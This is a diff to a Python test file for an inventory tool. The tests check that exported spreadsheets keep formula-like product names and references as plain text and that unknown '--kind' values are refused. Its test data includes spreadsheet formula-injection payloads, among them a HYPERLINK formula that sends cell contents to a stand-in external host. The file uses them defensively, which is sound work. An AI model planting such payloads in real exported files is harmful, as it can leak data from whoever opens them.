@@ -35,6 +35,18 @@ def stocked(db) -> dict[str, Decimal]:
 DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-5 pack", "@SUM(A1:A9)", "=1+1 盒"]
 
 
+def dangerous_products(path) -> None:
+    """Products X-0, X-1, … named as ``DANGEROUS`` (each like a formula) in the database at ``path``."""
+    from persistence.db import open_database
+
+    db = open_database(path)
+    try:
+        for i, name in enumerate(DANGEROUS):
+            catalog.add_product(db.uow(), c.AddProduct(f"X-{i}", name))
+    finally:
+        db.close()
+
+
 @pytest.mark.parametrize("text,value", [("1250.5", "1250.5"), ("1,250.5", "1250.5"), ("1,250", "1250"),
                                         ("12,345,678.9", "12345678.9"), ("-3", "-3"), ("+1,000", "1000"),
                                         ("１２．５", "12.5"), ("0.0001", "0.0001")])
@@ -77,14 +89,7 @@ def test_an_import_with_a_decimal_comma_is_refused_row_by_row_and_writes_nothing
 
 
 def test_names_that_look_like_formulas_export_as_text_and_import_back_unchanged(shop, tmp_path):  # noqa: F811
-    from persistence.db import open_database
-
-    db = open_database(shop)
-    try:
-        for i, name in enumerate(DANGEROUS):
-            catalog.add_product(db.uow(), c.AddProduct(f"X-{i}", name))
-    finally:
-        db.close()
+    dangerous_products(shop)
     for i in range(len(DANGEROUS)):
         ok(shop, "receive", f"X-{i}", "1", "--warehouse", "SH", "--unit-cost", "2")
     for kind in ("stock", "movements"):
@@ -118,3 +123,36 @@ def test_a_workbook_with_real_formulas_is_refused_naming_the_cells_and_nothing_i
     book.save(path)
     with pytest.raises(BadInput, match=r"formulas in B2, B3.*paste them as values"):
         read_table(path)
+
+
+def test_export_movements_kind_writes_what_movements_kind_lists_and_still_no_formula(shop, tmp_path):  # noqa: F811
+    """``export movements --kind`` filters as ``movements --kind`` and the window's Kind filter do (opening stock
+    apart from the receipts); the names and references it writes stay text; an unknown kind is refused, naming the
+    accepted ones, and writes no file."""
+    dangerous_products(shop)
+    ok(shop, "import", "stock", str(write(tmp_path / "s.csv", "SKU,Warehouse,Qty,Unit cost\nX-0,SH,5,2\n")))
+    ok(shop, "receive", "X-1", "4", "--warehouse", "SH", "--unit-cost", "3", "--ref", "=1+1")
+    ok(shop, "ship", "X-0", "2", "--warehouse", "SH", "--ref", "@SUM(A1:A9)")
+    exported = {}
+    for kind in ("opening", "receipt", "shipment", "transfer_out"):
+        target = tmp_path / f"{kind}.xlsx"
+        ok(shop, "export", "movements", str(target), "--kind", kind)
+        cells = [cell for row in load_workbook(target).active.iter_rows() for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
+        assert all(cell.quotePrefix for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+-@")
+        rows = list(load_workbook(target).active.iter_rows(min_row=2, values_only=True))
+        exported[kind] = sorted((r[1], r[2], r[10]) for r in rows)  # kind, SKU, reference
+        listed = json.loads(ok(shop, "movements", "--kind", kind, "--json"))
+        assert sorted(r[-1] for r in rows) == sorted(m["id"] for m in listed)
+    assert exported == {"opening": [("Opening stock", "X-0", exported["opening"][0][2])],
+                        "receipt": [("Receipt", "X-1", "=1+1")], "shipment": [("Shipment", "X-0", "@SUM(A1:A9)")],
+                        "transfer_out": []}
+    code, out, err = cli(shop, "export", "movements", str(tmp_path / "bad.xlsx"), "--kind", "opening_stock")
+    assert code == 2 and not (tmp_path / "bad.xlsx").exists()
+    refusal = err.splitlines()[-1].split("error: ", 1)[1]
+    assert refusal.startswith("argument --kind: invalid choice: 'opening_stock' (choose from 'receipt', 'shipment'")
+    assert "'opening')" in refusal
+    code, out, err = cli(shop, "movements", "--kind", "opening_stock")
+    assert code == 2 and err.splitlines()[-1].split("error: ", 1)[1] == refusal  # the list's refusal, word for word
+    code, out, err = cli(shop, "export", "stock", str(tmp_path / "s.xlsx"), "--kind", "receipt")
+    assert code == 2 and "--kind" in err and "movements" in err and not (tmp_path / "s.xlsx").exists()
